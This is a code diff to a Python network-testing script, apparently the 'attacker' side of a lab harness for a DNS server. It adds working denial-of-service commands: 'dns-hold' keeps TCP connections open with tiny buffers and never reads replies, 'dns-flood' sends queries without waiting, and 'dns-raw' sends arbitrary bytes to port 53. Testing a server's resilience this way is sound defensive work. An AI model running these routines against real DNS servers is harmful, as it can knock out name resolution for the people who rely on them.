@@ -18,6 +18,12 @@ Commands (each prints one line of result, or fails with a traceback):
   first (or "connected, silent"), "refused" or "timeout".
 - ``mac``: eth0's MAC address.
 - ``dns SERVER NAME udp|tcp``: one A query; prints the answer's rcode and its addresses.
+- ``dns-hold SERVER NAME COUNT``: COUNT TCP connections to SERVER:53, each with the smallest
+  receive buffer and segment size, each asking NAME and never reading the answer; prints
+  "held", then opens one more every 0.2 s.
+- ``dns-flood SERVER PREFIX COUNT``: COUNT queries over UDP for PREFIX-<n>.example without
+  waiting for answers; prints "sent".
+- ``dns-raw SERVER HEX``: one UDP datagram of the bytes HEX to SERVER:53; prints "sent".
 """
 
 ATTACKER = r"""
@@ -116,8 +122,7 @@ def connect(addr, port):
 RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 5: "REFUSED"}
 
 def dns_query(server, name, transport):
-    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split("."))
-    query = struct.pack("!HHHHHH", 0x5A5A, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
+    query = dns_wire(name)
     if transport == "tcp":
         s = socket.create_connection((server, 53), timeout=5)
         s.sendall(struct.pack("!H", len(query)) + query)
@@ -136,7 +141,7 @@ def dns_query(server, name, transport):
     rcode = RCODES.get(answer[3] & 0xF, answer[3] & 0xF)
     count = struct.unpack("!H", answer[6:8])[0]
     # the answers' addresses: the last 4 bytes of each A record (compressed names: 16 bytes)
-    offset = 12 + len(labels) + 1 + 4
+    offset = len(query)
     found = []
     for _ in range(count):
         rdlength = struct.unpack("!H", answer[offset + 10:offset + 12])[0]
@@ -144,6 +149,44 @@ def dns_query(server, name, transport):
             found.append(socket.inet_ntoa(answer[offset + 12:offset + 16]))
         offset += 12 + rdlength
     print(rcode, *found)
+
+def dns_wire(name, query_id=0x5A5A):
+    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.rstrip(".").split("."))
+    return struct.pack("!HHHHHH", query_id, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
+
+def dns_hold(server, name, count):
+    held = []
+
+    def hold():
+        try:
+            s = socket.socket()
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
+            # small segments: the server's send buffer starts small too (it grows with the MSS)
+            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)
+            s.connect((server, 53))
+            query = dns_wire(name)
+            s.sendall(struct.pack("!H", len(query)) + query)
+            held.append(s)
+        except OSError:
+            pass
+
+    for _ in range(int(count)):
+        hold()
+    print("held", flush=True)
+    import time
+    while True:  # and more, as those time out
+        time.sleep(0.2)
+        hold()
+
+def dns_flood(server, prefix, count):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for n in range(int(count)):
+        s.sendto(dns_wire("%s-%d.example" % (prefix, n), n & 0xFFFF), (server, 53))
+    print("sent")
+
+def dns_raw(server, data):
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex(data), (server, 53))
+    print("sent")
 
 command, args = sys.argv[1], sys.argv[2:]
 if command == "spoof-udp":
@@ -160,6 +203,12 @@ elif command == "connect":
     connect(args[0], int(args[1]))
 elif command == "dns":
     dns_query(*args)
+elif command == "dns-hold":
+    dns_hold(*args)
+elif command == "dns-flood":
+    dns_flood(*args)
+elif command == "dns-raw":
+    dns_raw(*args)
 elif command == "mac":
     print(mac_of())
 else:
